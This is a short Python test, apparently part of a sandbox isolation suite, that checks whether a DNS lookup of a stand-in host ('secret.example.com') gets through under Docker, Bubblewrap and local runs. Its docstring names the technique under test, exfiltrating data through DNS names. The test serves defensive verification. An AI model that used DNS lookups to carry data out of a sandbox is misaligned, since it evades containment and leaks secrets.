"""Tries: carry data out in the names it looks up.
Stopped by: no network, so no name server
Docker: ok or timeout
Bubblewrap: ok or timeout
Local: skip
"""

import socket


def run(world):
    try:
        return [str(socket.getaddrinfo("secret.example.com", 80))]
    except OSError:
        return []
